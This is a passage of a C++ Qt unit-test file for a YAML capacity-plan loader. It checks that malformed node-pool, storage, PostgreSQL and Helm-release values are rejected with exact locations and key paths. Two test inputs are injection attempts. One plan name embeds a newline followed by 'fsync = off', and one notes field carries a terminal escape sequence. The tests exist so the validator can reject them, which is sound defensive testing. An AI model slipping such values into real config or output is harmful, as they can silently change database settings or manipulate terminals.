                                        << 9 << 19 << QStringLiteral("nodePools.general.pricePerHour")
                                        << QStringLiteral("between 0 and 1000000");
        QTest::addRow("price not a number")
            << QByteArray(head + pool + "    count: 3\n    pricePerHour: cheap\nservices: []\n") << 9 << 19
            << QStringLiteral("nodePools.general.pricePerHour") << QStringLiteral("'cheap' is not a number");
        QTest::addRow("duplicate node pool names")
            << QByteArray(head
                          + "nodePools:\n  - {name: general, cpu: \"8\", memory: 32Gi, count: 3}\n"
                            "  - {name: general, cpu: \"4\", memory: 16Gi, count: 2}\nservices: []\n")
            << 6 << 12 << QStringLiteral("nodePools.general.name") << QStringLiteral("already named 'general'");
        QTest::addRow("zero cpu node") << QByteArray(
            head + "nodePools:\n  - {name: general, cpu: \"0\", memory: 32Gi, count: 3}\nservices: []\n")
                                       << 5 << 26 << QStringLiteral("nodePools.general.cpu")
                                       << QStringLiteral("more than 0 CPU");
        QTest::addRow("horizon of hours") << QByteArray(head + "storage:\n  horizon: 12h\nservices: []\n") << 5 << 12
                                          << QStringLiteral("storage.horizon") << QStringLiteral("between 1d and 100y");
        QTest::addRow("horizon of centuries")
            << QByteArray(head + "storage:\n  horizon: 200y\nservices: []\n") << 5 << 12
            << QStringLiteral("storage.horizon") << QStringLiteral("between 1d and 100y");
        QTest::addRow("horizon not a duration")
            << QByteArray(head + "storage:\n  horizon: forever\nservices: []\n") << 5 << 12
            << QStringLiteral("storage.horizon") << QStringLiteral("'forever'");
        QTest::addRow("unknown default class")
            << QByteArray(head + "storage:\n  defaultClass: floppy\nservices: []\n") << 5 << 17
            << QStringLiteral("storage.defaultClass") << QStringLiteral("unknown storage class 'floppy'");
        QTest::addRow("topology on redis")
            << QByteArray(head
                          + "services:\n  - name: cache\n    kind: redis\n    tier: small\n"
                            "    topology: {readReplicas: 1}\n")
            << 8 << 15 << QStringLiteral("services.cache.topology") << QStringLiteral("postgresql only");
        QTest::addRow("pooler mode banana") << QByteArray(head + db + "      pooler: {enabled: true, mode: banana}\n")
                                            << 10 << 37 << QStringLiteral("services.db.topology.pooler.mode")
                                            << QStringLiteral("'banana' is not a PgBouncer pool mode");
        QTest::addRow("readShare 150%%") << QByteArray(head + db + "      load: {readShare: 150%}\n") << 10 << 25
                                         << QStringLiteral("services.db.topology.load.readShare")
                                         << QStringLiteral("a read share is at most 100%");
        QTest::addRow("multiplexing below 1")
            << QByteArray(head + db + "      pooler: {multiplexing: \"0.5\"}\n") << 10 << 30
            << QStringLiteral("services.db.topology.pooler.multiplexing") << QStringLiteral("between 1 and 1000");
        QTest::addRow("primary memory floor 120%%")
            << QByteArray(head + db + "      primaryMemoryFloor: 120%\n") << 10 << 27
            << QStringLiteral("services.db.topology.primaryMemoryFloor") << QStringLiteral("at most 100%");
        QTest::addRow("too many replicas")
            << QByteArray(head + db).replace("readReplicas: 1", "readReplicas: 65") << 9 << 21
            << QStringLiteral("services.db.topology.readReplicas") << QStringLiteral("between 0 and 64");
        // Exported files are named after releases: two services must not write the same one.
        QTest::addRow("release name of another service's role")
            << QByteArray(head + db + "  - name: db-primary\n    kind: redis\n    tier: small\n") << 10 << 5
            << QStringLiteral("services.db-primary") << QStringLiteral("services 'db' and 'db-primary' both export");
        // Helm refuses a release name longer than 53 characters, the role's suffix included.
        const QByteArray long48(48, 'a');
        QTest::addRow("release name of a role longer than Helm takes")
            << QByteArray(head + QByteArray(db).replace("name: db", "name: " + long48)) << 5 << 5
            << QStringLiteral("services.") + QString::fromLatin1(long48) << QStringLiteral("at most 45 characters");
        QTest::addRow("empty service name")
            << QByteArray(head + "services:\n  - name: \"\"\n    kind: redis\n    tier: small\n") << 5 << 11
            << QStringLiteral("services[0].name") << QStringLiteral("cannot be empty");
        QTest::addRow("service name ending in a newline")
            << QByteArray(head + "services:\n  - name: \"cache\\n\"\n    kind: redis\n    tier: small\n") << 5 << 11
            << QStringLiteral("services.cache\n.name") << QStringLiteral("cannot name a Helm release");
        QTest::addRow("plan name with a line break")
            << QByteArray(head + "services: []\n").replace("{name: x}", "{name: \"Prod\\nfsync = off\"}") << 3 << 18
            << QStringLiteral("metadata.name") << QStringLiteral("control character U+000A");
        QTest::addRow("notes with an escape sequence")
            << QByteArray(head + "services: []\n").replace("{name: x}", "{name: x, notes: \"\\e]0;title\\a\"}") << 3
            << 28 << QStringLiteral("metadata.notes") << QStringLiteral("control character U+001B");
        QTest::addRow("growth every 0s") << QByteArray(
            head
            + "services:\n  - name: db\n    kind: postgresql\n    tier: small\n"
              "    volume:\n      growth: {amount: 5Gi, every: 0s}\n")
                                         << 9 << 15 << QStringLiteral("services.db.volume.growth")
                                         << QStringLiteral("at least one second");
    }

    void moreBadInput()
    {
        QFETCH(QByteArray, text);
        QFETCH(int, line);
        QFETCH(int, column);
        QFETCH(QString, keyPath);
        QFETCH(QString, messagePart);
        PlanLoader loader(m_catalog);
        auto plan = loader.load(text, QStringLiteral("plan.yaml"));
        QVERIFY(!plan.hasValue());
        const Error& e = plan.error();
        QVERIFY2(e.message.contains(messagePart), qPrintable(e.toString()));
        QCOMPARE(e.location.file, QStringLiteral("plan.yaml"));
        QCOMPARE(e.location.line, line);
        QCOMPARE(e.location.column, column);
        // Every other problem under a service is reported under its name.
        QCOMPARE(e.keyPath, keyPath);
        QVERIFY(e.toString().startsWith(QStringLiteral("plan.yaml:%1:%2: ").arg(line).arg(column)));
    }

    void unknownKeysWarnWithTheirPath()
    {
        const QByteArray text = "apiVersion: headroom/v1\n"
                                "kind: Plan\n"
                                "metadata: {name: x, owner: me}\n"
                                "nodePools:\n"
                                "  - {name: general, cpu: \"8\", memory: 32Gi, count: 3, maxpods: 50}\n"
                                "storage:\n"
                                "  defaultClass: standard-ssd\n"
                                "  horizont: 2y\n"
                                "services:\n"
                                "  - name: db\n"
                                "    kind: postgresql\n"
                                "    tier: small\n"
                                "    topology:\n"
                                "      readReplicas: 1\n"
                                "      pooler: {enabled: true, mod: session}\n"
                                "      replica: {measured: {commit: 950k}}\n"
                                "nodepools: []\n";
        PlanLoader loader(m_catalog);
        auto plan = loader.load(text, QStringLiteral("plan.yaml"));
        QVERIFY2(plan.hasValue(), qPrintable(testutils::errorText(plan)));
        // Warnings, not errors: the plan is what it would be without the typos.
        QCOMPARE(plan->nodePools.first().maxPods, 110);
        QCOMPARE(plan->horizon, Quantity::milliseconds(365LL * 86'400'000));
        QCOMPARE(plan->services.first().topology->pooler.mode, QStringLiteral("transaction"));
        QVERIFY(!plan->services.first().topology->replica.commits);

        struct Expected
        {
            const char* keyPath;
            int line;
            int column;
            const char* key;
        };
        const Expected expected[] = {
            { "nodepools", 17, 1, "nodepools" },
            { "metadata.owner", 3, 21, "owner" },
            { "storage.horizont", 8, 3, "horizont" },
            { "nodePools.general.maxpods", 5, 55, "maxpods" },
            { "services.db.topology.pooler.mod", 15, 31, "mod" },
            { "services.db.topology.replica.measured.commit", 16, 28, "commit" },
        };
        QMap<QString, Error> byPath;
        for (const auto& w : loader.warnings())
            byPath.insert(w.keyPath, w);
        QCOMPARE(loader.warnings().size(), int(std::size(expected)));
        for (const auto& x : expected) {
            const QString path = QLatin1String(x.keyPath);
            QVERIFY2(byPath.contains(path), x.keyPath);
            const Error& w = byPath.value(path);
            QCOMPARE(w.location.file, QStringLiteral("plan.yaml"));
            QCOMPARE(w.location.line, x.line);
            QCOMPARE(w.location.column, x.column);
            QVERIFY2(w.message.contains(QStringLiteral("unknown key '%1' is ignored").arg(QLatin1String(x.key))),
                     qPrintable(w.message));
        }
    }
};

QTEST_GUILESS_MAIN(TestPlanLoader)
#include "tst_planloader.moc"
